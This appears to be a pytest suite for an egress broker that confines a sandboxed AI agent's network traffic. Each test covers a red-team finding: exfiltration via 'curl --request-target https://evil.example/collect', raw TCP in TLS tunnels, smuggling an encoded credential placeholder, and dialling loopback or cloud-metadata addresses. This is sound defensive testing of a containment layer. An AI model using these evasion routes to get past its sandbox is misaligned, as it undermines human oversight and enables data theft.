"""The broker's decisions against what the red team tried (backends/egress/policy.py):
request targets, record versions, schemes, other keys, resolved addresses, encodings of
the placeholder, Host ports, forwarding headers, body sizes, the status relay and the
sidecar's own addresses. Each test names the finding of the seal-holes issue it covers.
"""

from __future__ import annotations

import base64
import gzip
import ipaddress
import json
import urllib.parse

import pytest

from backends.claude import STATUS_HOST, STATUS_WORDS
from backends.egress import policy as pol
from backends.status_file import RELAYED_FILE

PH = "sk-ant-oat01-" + "Ph0lder" * 12 + "-xyz"
API = ("api.anthropic.com", 443)
POLICY = pol.Policy(
    agent="web",
    allow=pol.allowlist(
        ["github.com", "*.npmjs.org", "plain.example:80", "gw.office:8443", "10.1.2.0/24"], API
    ),
    placeholder=PH,
    internal=("172.30.0.0/16",),
)


def request(**over: object) -> pol.Decision:
    args: dict[str, object] = {
        "host": "api.anthropic.com",
        "port": 443,
        "scheme": "https",
        "method": "POST",
        "authority": "",
        "path": "/v1/messages",
        "host_header": "api.anthropic.com",
        "tunnel": API,
    }
    args.update(over)
    return pol.check_request(POLICY, **args)  # type: ignore[arg-type]


# ----------------------------------------------------------------- 1. request targets


def test_an_origin_form_request_in_its_tunnel_passes() -> None:
    ok = request()
    assert ok.allow and ok.check == "request" and ok.host == "api.anthropic.com"


@pytest.mark.parametrize(
    "authority",
    ["evil.example", "evil.example:443", "api.anthropic.com:8443", "API.anthropic.com.evil"],
)
def test_an_absolute_target_naming_another_host_or_port_than_the_tunnel_is_refused(
    authority: str,
) -> None:
    """Finding 1: ``curl --request-target https://evil.example/collect`` in a tunnel to
    the API host; a vhost-routing upstream would serve the attacker's host."""
    refused = request(authority=authority, path="/collect")
    assert not refused.allow and refused.check == "target"
    assert "the request target names" in refused.reason
    assert "api.anthropic.com:443" in refused.reason


def test_an_absolute_target_naming_the_tunnels_own_host_passes() -> None:
    assert request(authority="api.anthropic.com").allow
    assert request(authority="API.Anthropic.com:443").allow


@pytest.mark.parametrize(
    ("path", "method"),
    [("https://evil.example/collect", "POST"), ("evil/x", "GET"), ("*", "GET"), ("", "GET")],
)
def test_a_path_that_is_not_origin_form_is_refused(path: str, method: str) -> None:
    """Finding 1 over HTTP/2: an absolute ``:path``."""
    refused = request(path=path, method=method)
    assert not refused.allow and refused.check == "target"
    assert "is not origin-form" in refused.reason


def test_options_star_is_origin_form_enough() -> None:
    assert request(path="*", method="OPTIONS").allow


def test_a_plain_proxy_request_is_checked_against_its_own_url() -> None:
    """No tunnel: the request's own host is where it goes (the authority was cleared)."""
    ok = pol.check_request(
        POLICY,
        host="plain.example",
        port=80,
        scheme="http",
        method="GET",
        authority="",
        path="/x",
        host_header="plain.example",
    )
    assert ok.allow
    wrong = pol.check_request(
        POLICY,
        host="plain.example",
        port=80,
        scheme="http",
        method="GET",
        authority="other.example",
        path="/x",
        host_header=None,
    )
    assert not wrong.allow and "other.example:80" in wrong.reason


# ----------------------------------------------------------------- 2. tunnel bytes


def hello(version: int) -> bytes:
    return bytes([0x16, 0x03, version, 0x00, 0x40]) + b"\x01" + b"\x00" * 60


@pytest.mark.parametrize("version", [0, 1, 2, 3])
def test_tls_record_versions_mitmproxy_reads_pass(version: int) -> None:
    decision = pol.check_tunnel_bytes(POLICY, "github.com", 443, hello(version))
    assert decision is not None and decision.allow and decision.check == "tunnel"
    assert pol.looks_like_tls(hello(version))


@pytest.mark.parametrize("version", [4, 5, 0xFF])
def test_a_client_hello_with_another_record_version_is_refused(version: int) -> None:
    """Finding 2: record version 0x0304 was relayed as raw TCP."""
    decision = pol.check_tunnel_bytes(POLICY, "github.com", 443, hello(version))
    assert decision is not None and not decision.allow
    assert f"TLS record version 0x03{version:02x}" in decision.reason
    assert not pol.looks_like_tls(hello(version))


@pytest.mark.parametrize(
    "data", [b"SSH-2.0-OpenSSH_9.2\r\n", b"\x00\x01\x02\x03", b"get / HTTP/1.1\r\n", b"GET/"]
)
def test_raw_bytes_in_a_tunnel_are_refused(data: bytes) -> None:
    decision = pol.check_tunnel_bytes(POLICY, "GitHub.com.", 443, data)
    assert decision is not None and not decision.allow
    assert decision.host == "github.com" and decision.port == 443
    assert "raw bytes" in decision.reason


@pytest.mark.parametrize("data", [b"GET / HTTP/1.1\r\n", b"M-SEARCH * HTTP/1.1", b"PUT /x"])
def test_an_http_request_line_passes(data: bytes) -> None:
    decision = pol.check_tunnel_bytes(POLICY, "github.com", 443, data)
    assert decision is not None and decision.allow


@pytest.mark.parametrize("data", [b"", b"\x16\x03", b"GE", b"GET", b"OPTIONS"])
def test_too_few_bytes_wait_for_more(data: bytes) -> None:
    assert pol.check_tunnel_bytes(POLICY, "github.com", 443, data) is None


def test_a_method_that_never_ends_is_refused() -> None:
    decision = pol.check_tunnel_bytes(POLICY, "github.com", 443, b"A" * 21)
    assert decision is not None and not decision.allow


@pytest.mark.parametrize("data", [b"GET\n", b"CONNECT\n", b"A" * 20 + b"\n" + b"\x00" * 40])
def test_a_method_ended_by_a_newline_is_no_request_line(data: bytes) -> None:
    """A request line has a space after its method, so these are told at once. The ``$``
    of the method pattern also matched before a final newline: they were taken for a
    method still coming, and the broker never judged the tunnel (mitmproxy's own HTTP
    layer took it, no refusal logged); after 20 letters and a newline, whatever came."""
    decision = pol.check_tunnel_bytes(POLICY, "github.com", 443, data)
    assert decision is not None and not decision.allow and decision.check == "tunnel"
    assert "raw bytes" in decision.reason


# ----------------------------------------------------------------- 3. cleartext


def test_plain_http_never_goes_to_port_443() -> None:
    """Finding 3: ``GET http://<api host>:443/`` through the proxy."""
    refused = request(scheme="http", host_header="api.anthropic.com:443")
    assert not refused.allow and refused.check == "scheme"
    assert "port 443 is for HTTPS" in refused.reason
    # ... while a rule that names a plain port allows plain HTTP there.
    ok = pol.check_request(
        POLICY,
        host="plain.example",
        port=80,
        scheme="http",
        method="GET",
        authority="",
        path="/",
        host_header=None,
    )
    assert ok.allow


def test_no_credential_crosses_in_the_clear_even_to_the_api_host() -> None:
    plain = pol.Policy("web", pol.allowlist([], ("gw.corp", 80)), ("gw.corp", 80), PH)
    for headers, found in (({"x-api-key": PH}, True), ({"Authorization": "Bearer k"}, False)):
        refused = pol.check_credentials(
            plain, "gw.corp", 80, scheme="http", headers=headers, found=found
        )
        assert not refused.allow and refused.check == "credential"
        assert "plain HTTP" in refused.reason
    # A request with no credential at all may go (nothing to protect).
    assert pol.check_credentials(plain, "gw.corp", 80, scheme="http", headers={}, found=False).allow


# ----------------------------------------------------------------- 7. other keys


def test_the_api_host_accepts_only_the_placeholder_as_credential() -> None:
    """Finding 7: another key (an account the agent controls) went to the API untouched."""
    ok = pol.check_credentials(
        POLICY, "api.anthropic.com", 443, scheme="https", headers={"X-Api-Key": PH}, found=True
    )
    assert ok.allow and ok.check == "credential"
    bearer = {"authorization": f"Bearer {PH}"}
    assert pol.check_credentials(
        POLICY, "api.anthropic.com", 443, scheme="https", headers=bearer, found=True
    ).allow
    for headers in (
        {"x-api-key": "sk-ant-api03-" + "A" * 90},
        {"Authorization": "Bearer sk-ant-oat01-mine"},
        {"x-api-key": PH, "authorization": "Bearer other"},
    ):
        refused = pol.check_credentials(
            POLICY, "api.anthropic.com", 443, scheme="https", headers=headers, found=True
        )
        assert not refused.allow and refused.check == "credential"
        assert "not this bottle's placeholder" in refused.reason
    # Other headers are none of the broker's business.
    assert pol.check_credentials(
        POLICY, "api.anthropic.com", 443, scheme="https", headers={"cookie": "x"}, found=False
    ).allow


def test_off_the_api_host_other_credentials_pass_and_the_placeholder_does_not() -> None:
    mine = {"Authorization": "Bearer github-token"}
    assert pol.check_credentials(
        POLICY, "github.com", 443, scheme="https", headers=mine, found=False
    ).allow
    refused = pol.check_credentials(
        POLICY, "github.com", 443, scheme="https", headers={"x": PH}, found=True
    )
    assert not refused.allow and refused.check == "placeholder"


def test_a_policy_without_placeholder_accepts_no_credential_on_the_api() -> None:
    bare = POLICY._replace(placeholder="")
    refused = pol.check_credentials(
        bare, "api.anthropic.com", 443, scheme="https", headers={"x-api-key": "k"}, found=False
    )
    assert not refused.allow


# ----------------------------------------------------------------- 8. addresses


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("localhost:8081", "localhost"),
        ("LocalHost", "localhost"),
        ("x.localhost", "localhost"),
        ("127.0.0.1:8080", "loopback"),
        ("127.1.2.3", "loopback"),
        ("169.254.169.254:80", "link-local"),
        ("169.254.1.1", "link-local"),
        ("100.100.100.200:80", "link-local"),
        ("0.0.0.0", "not an address of the outside world"),
        ("224.0.0.1", "multicast"),
        ("255.255.255.255", "not an address of the outside world"),
        ("0:80", "short or numeric form"),
        ("0", "short or numeric form"),
        ("127.1", "short or numeric form"),
        ("2130706433", "short or numeric form"),
        ("0x7f.1", "short or numeric form"),
        ("*.254", "only match addresses"),
        ("*.1:80", "only match addresses"),
        ("*.com", "top-level domain"),
        ("*.internal:443", "top-level domain"),
        ("github.com:22", "SSH"),
        ("10.1.2.3:22", "SSH"),
        ("[::1]:443", "IPv6"),
        ("::1", "IPv6"),
        ("fe80::1", "IPv6"),
        ("0.0.0.0/0", "wider than a /8"),
        ("127.0.0.0/8", "loopback"),
        ("169.254.0.0/16", "link-local"),
        ("10.0.0.0/4", "wider than a /8"),
        ("8.0.0.0/7", "wider than a /8"),
        ("fd00::/8", "IPv6"),
        ("10.0.0.0/99", "not an address range"),
        ("10.1.0.0/16:0", "bad port"),
    ],
)
def test_rules_that_can_only_lead_back_to_the_sidecar_are_refused(text: str, why: str) -> None:
    """Finding 8: ``localhost:8081`` made the sidecar dial its own loopback."""
    with pytest.raises(ValueError, match=why):
        pol.parse_rule(text)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("github.com", pol.Rule("github.com", 443)),
        ("10.1.2.3", pol.Rule("10.1.2.3", 443)),
        ("10.1.2.3:8443", pol.Rule("10.1.2.3", 8443)),
        ("10.1.2.7/24", pol.Rule("10.1.2.0/24", 443)),
        ("10.1.0.0/16:8443", pol.Rule("10.1.0.0/16", 8443)),
        ("8.8.8.8", pol.Rule("8.8.8.8", 443)),
        ("a.b:1", pol.Rule("a.b", 1)),
        ("a.b:65535", pol.Rule("a.b", 65535)),
        ("*.co.uk", pol.Rule("*.co.uk", 443)),
        ("localhost.example.com", pol.Rule("localhost.example.com", 443)),
        ("a1.example", pol.Rule("a1.example", 443)),
    ],
)
def test_address_and_range_rules(text: str, rule: pol.Rule) -> None:
    assert pol.parse_rule(text) == rule


@pytest.mark.parametrize("port", ["0", "65536", "-1", "x", "", "443a"])
def test_a_port_outside_1_to_65535_is_refused(port: str) -> None:
    with pytest.raises(ValueError, match="bad port"):
        pol.parse_rule(f"a.example:{port}")


def test_a_rules_kinds() -> None:
    name, address, cidr = pol.Rule("a.b"), pol.Rule("10.1.2.3"), pol.Rule("10.1.0.0/16")
    assert (name.is_address, name.is_range) == (False, False)
    assert (address.is_address, address.is_range) == (True, False)
    assert (cidr.is_address, cidr.is_range) == (False, True)
    inside, outside = ipaddress.ip_address("10.1.9.9"), ipaddress.ip_address("10.2.0.1")
    assert cidr.grants(inside) and not cidr.grants(outside)
    assert address.grants(ipaddress.ip_address("10.1.2.3")) and not address.grants(inside)
    assert not name.grants(inside)
    assert cidr.matches("10.1.9.9", 443) and not cidr.matches("10.1.9.9", 80)
    assert not cidr.matches("a.b", 443) and not cidr.matches("10.2.0.1", 443)
    assert address.matches("10.1.2.3", 443) and not address.matches("10.1.2.4", 443)
    assert str(cidr) == "10.1.0.0/16" and str(pol.Rule("10.1.0.0/16", 80)) == "10.1.0.0/16:80"


def test_wildcards_match_subdomains_only() -> None:
    rule = pol.Rule("*.example.com")
    assert rule.matches("a.example.com", 443)
    assert rule.matches("a.b.example.com", 443)
    assert not rule.matches("example.com", 443)
    assert not rule.matches(".example.com", 443)
    assert not rule.matches("aexample.com", 443)
    assert not rule.matches("a.example.com", 80)


def addresses(host: str, *ips: str, own: tuple[str, ...] = ("172.31.0.1",)) -> pol.Decision:
    return pol.address_decision(POLICY, host, 443, list(ips), own=own)


def test_a_public_address_is_dialled_as_resolved() -> None:
    ok = addresses("github.com", "140.82.112.3", "140.82.112.4")
    assert ok.allow and ok.check == "address" and ok.extra["address"] == "140.82.112.3"


@pytest.mark.parametrize(
    ("ip", "why"),
    [
        ("127.0.0.1", "loopback"),
        ("127.9.9.9", "loopback"),
        ("169.254.169.254", "link-local"),
        ("100.100.100.200", "link-local"),
        ("0.0.0.0", "outside world"),
        ("224.0.0.251", "multicast"),
        ("::1", "loopback"),
        ("::ffff:127.0.0.1", "loopback"),
        ("::ffff:169.254.169.254", "link-local"),
        ("fe80::1", "link-local"),
        ("fd00:ec2::254", "link-local"),
        ("172.30.5.6", "bottle-side network"),
        ("172.31.0.1", "or the host"),
    ],
)
def test_a_name_resolving_inside_is_never_dialled_whatever_the_rules(ip: str, why: str) -> None:
    """Finding 8, after resolution: a DNS answer (or rebinding) pointing inside."""
    refused = addresses("github.com", "140.82.112.3", ip)
    assert not refused.allow and refused.check == "address"
    assert ip in refused.reason and why in refused.reason and "never dialled" in refused.reason
    # Not even a rule naming it opens it.
    opened = POLICY._replace(allow=(*POLICY.allow, pol.Rule("172.30.0.0/16")))
    assert not pol.address_decision(opened, "github.com", 443, [ip], own=("172.31.0.1",)).allow


@pytest.mark.parametrize("ip", ["10.9.9.9", "192.168.1.1", "172.16.0.5", "100.64.0.1", "fc00::1"])
def test_a_private_address_needs_a_rule_naming_it(ip: str) -> None:
    refused = addresses("gw.office", ip)
    assert not refused.allow and "a private address" in refused.reason
    assert f"add {ip}" in refused.reason and pol.ALLOW_KEY in refused.reason


def test_a_private_address_in_a_named_range_or_address_is_dialled() -> None:
    assert addresses("gw.office", "10.1.2.200").allow  # 10.1.2.0/24
    named = POLICY._replace(allow=(*POLICY.allow, pol.Rule("192.168.5.5", 8443)))
    assert pol.address_decision(named, "gw", 8443, ["192.168.5.5"]).allow
    assert not pol.address_decision(named, "gw", 8443, ["192.168.5.6"]).allow


def test_no_address_or_a_bad_one_is_refused() -> None:
    assert "did not resolve" in addresses("nowhere.example").reason
    assert not addresses("x.example", "not-an-ip").allow


def test_the_sidecars_own_addresses_and_gateways_from_proc() -> None:
    trie = (
        "Main:\n  +-- 0.0.0.0/0 3 0 5\n     |-- 0.0.0.0\n        /0 universe UNICAST\n"
        "     +-- 127.0.0.0/8 2 0 2\n           |-- 127.0.0.1\n              /32 host LOCAL\n"
        "        |-- 192.168.96.0\n              /20 link UNICAST\n"
        "           |-- 192.168.96.2\n              /32 host LOCAL\n"
        "           |-- 192.168.112.2\n              /32 host LOCAL\n"
        "        |-- 192.168.127.255\n           /32 link BROADCAST\n"
        "Local:\n           |-- 192.168.96.2\n              /32 host LOCAL\n"
    )
    assert pol.local_addresses(trie) == ["127.0.0.1", "192.168.96.2", "192.168.112.2"]
    route = (
        "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\n"
        "eth0\t00000000\t0170A8C0\t0003\t0\t0\t0\t00000000\n"
        "eth1\t0060A8C0\t00000000\t0001\t0\t0\t0\t00F0FFFF\n"
        "eth2\t00000000\t0170A8C0\t0003\t0\t0\t0\t00000000\n"
        "eth3\tbad\tnothex\n"
    )
    assert pol.gateways(route) == ["192.168.112.1"]
    assert pol.listen_address(["192.168.96.0/20"], pol.local_addresses(trie)) == "192.168.96.2"
    assert pol.listen_address(["10.0.0.0/8"], pol.local_addresses(trie)) is None
    assert pol.listen_address([], ["192.168.96.2"]) is None


# ----------------------------------------------------------------- 10. encodings


@pytest.mark.parametrize(
    "part",
    [
        PH,
        f"Bearer {PH}",
        f"/v1?key={urllib.parse.quote(PH)}",
        f"/v1?key={urllib.parse.quote_plus(PH)}".encode(),
        PH.encode(),
        base64.b64encode(PH.encode()),
        base64.b64encode(b"x" + PH.encode()),
        base64.b64encode(b"xy" + PH.encode() + b"tail"),
        base64.urlsafe_b64encode(b"?" + PH.encode()),
        json.dumps({"k": base64.b64encode(b"ab" + PH.encode()).decode()}).encode(),
    ],
)
def test_the_placeholder_is_found_as_it_is_percent_encoded_and_in_base64(part: str | bytes) -> None:
    """Finding 10: percent-encoded and base64 passed."""
    assert pol.carries(PH, [b"nothing", part])


def test_what_is_not_checked_is_not_found() -> None:
    """A placeholder split across parts or compressed is not looked for (the addon gives
    the decoded body as its own part); the tripwire says so in its docstring."""
    assert not pol.carries(PH, [PH[:40], PH[40:]])
    assert not pol.carries(PH, [gzip.compress(PH.encode())])
    assert not pol.carries("", [PH])
    assert not pol.carries(PH, ["nothing", b"here"])


def test_the_placeholder_goes_to_the_api_host_only() -> None:
    assert pol.check_placeholder(POLICY, "api.anthropic.com", 443, True).allow
    refused = pol.check_placeholder(POLICY, "GitHub.com", 443, True)
    assert not refused.allow and refused.host == "github.com"
    assert "api.anthropic.com:443 receives" in refused.reason
    assert pol.check_placeholder(POLICY, "github.com", 443, False).allow
    assert not pol.check_placeholder(POLICY, "api.anthropic.com", 8443, True).allow


# ----------------------------------------------------------------- 11. Host and headers


@pytest.mark.parametrize(
    ("header", "ok"),
    [
        ("api.anthropic.com", True),
        ("api.anthropic.com:443", True),
        ("API.anthropic.COM.", True),
        ("api.anthropic.com:8443", False),
        ("api.anthropic.com:80", False),
        ("evil.example", False),
        ("evil.example:443", False),
    ],
)
def test_the_host_header_must_name_the_requests_host_and_port(header: str, ok: bool) -> None:
    """Finding 11: ``Host: allowed:8443`` inside a tunnel to ``allowed:443`` passed."""
    decision = request(host_header=header)
    assert decision.allow is ok
    if not ok:
        assert decision.check == "host"


def test_forwarding_headers_are_stripped() -> None:
    names = ["Host", "X-Forwarded-Host", "x-forwarded-for", "Forwarded", "X-Real-IP", "Xforward"]
    assert pol.forwarding_headers(names) == ["X-Forwarded-Host", "x-forwarded-for", "Forwarded"]


def test_the_old_host_header_check_still_reads_ports() -> None:
    assert pol.check_host_header(POLICY, "github.com", 443, "github.com:443").allow
    assert not pol.check_host_header(POLICY, "github.com", 443, "github.com:8443").allow
    assert pol.check_host_header(POLICY, "plain.example", 80, "plain.example").allow
    assert not pol.check_host_header(POLICY, "evil.net", 443, None).allow


# ----------------------------------------------------------------- 9. sizes, status


def test_the_api_gets_no_body_over_its_limit() -> None:
    """Finding 9: a 171 MB unfinished body OOM-killed the sidecar."""
    assert pol.body_too_large(POLICY, "api.anthropic.com", 443, pol.API_BODY_MAX) is None
    over = pol.body_too_large(POLICY, "api.anthropic.com", 443, pol.API_BODY_MAX + 1)
    assert over is not None and not over.allow and over.check == "size"
    assert str(pol.API_BODY_MAX + 1) in over.reason
    # Other hosts stream whatever they are sent (a git push may be large).
    assert pol.body_too_large(POLICY, "github.com", 443, 10 * pol.API_BODY_MAX) is None
    assert pol.API_BODY_MAX == 32 * 1024**2 and pol.BUFFER_BODY_BYTES == 1024**2
    assert pol.LOG_MAX_BYTES == 4 * 1024**2


def test_the_status_relay_knows_six_words_and_one_host() -> None:
    assert STATUS_HOST == pol.STATUS_HOST and set(pol.STATUS_WORDS) == set(STATUS_WORDS)
    assert RELAYED_FILE == pol.STATUS_FILE
    assert pol.status_word("GET", pol.STATUS_HOST, "/working") == "working"
    assert pol.status_word("GET", "STATUS.bottle-dash.invalid.", "/idle?x") == "idle"
    assert pol.status_word("POST", pol.STATUS_HOST, "/exited") == "exited"
    assert pol.status_word("GET", pol.STATUS_HOST, "/rm -rf") == ""
    assert pol.status_word("DELETE", pol.STATUS_HOST, "/idle") == ""
    assert pol.status_word("GET", "github.com", "/idle") is None


# ----------------------------------------------------------------- 12. probe marks


def test_a_probe_mark_is_a_short_token() -> None:
    assert pol.probe_mark({"X-Bottle-Probe": "probe-1a2b"}) == "probe-1a2b"
    assert pol.probe_mark({"x-bottle-probe": " p1 "}) == "p1"
    assert pol.probe_mark({"x-bottle-probe": "a" * 33}) == ""
    assert pol.probe_mark({"x-bottle-probe": "bad mark"}) == ""
    assert pol.probe_mark({"other": "p"}) == ""
    line = json.loads(pol.log_line(pol.Decision(True, "h", 1, "request"), ts="T", probe="probe-1"))
    assert line["probe"] == "probe-1"
    assert "probe" not in json.loads(pol.log_line(pol.Decision(True, "h", 1, "x"), ts="T"))


# ----------------------------------------------------------------- words


def test_a_refusal_no_setting_can_lift_names_no_config_key() -> None:
    for check in ("target", "tunnel", "scheme", "address", "size"):
        decision = pol.Decision(False, "h.example", 443, check, "why")
        body = pol.deny_body(decision, "web")
        assert "h.example:443 refused for agent web: why" in body
        assert pol.ALLOW_KEY not in body
        assert (
            pol.deny_reason(decision, "web") == f"bottle-dash egress: {check} refused for h.example"
        )


def test_an_allowlist_refusal_says_allow_applies_at_once() -> None:
    body = pol.deny_body(pol.check_target(POLICY, "evil.net", 8443), "web")
    assert "`bottle-dash allow web evil.net:8443` (applies at once)" in body
    assert '"evil.net:8443" to egress_allow in [agents.web]' in body
    assert "then `bottle-dash up" not in body


def test_credential_refusals_say_the_bottle_holds_a_placeholder() -> None:
    decision = pol.Decision(False, "api.anthropic.com", 443, "credential", "why")
    assert "request refused: why" in pol.deny_body(decision, "web")
    assert pol.deny_reason(decision, "web") == (
        "bottle-dash egress: credential refused for api.anthropic.com"
    )


def test_policy_round_trips_with_its_networks() -> None:
    assert pol.Policy.from_json(POLICY.to_json()) == POLICY
    old = json.dumps({"agent": "a", "allow": ["x.example"], "api": "x.example:443"})
    assert pol.Policy.from_json(old).internal == ()
    odd = json.dumps({"agent": "a", "allow": [], "api": "h:1", "internal": ["nope", "10.0.0.0/8"]})
    assert pol.Policy.from_json(odd).internal == ("10.0.0.0/8",)
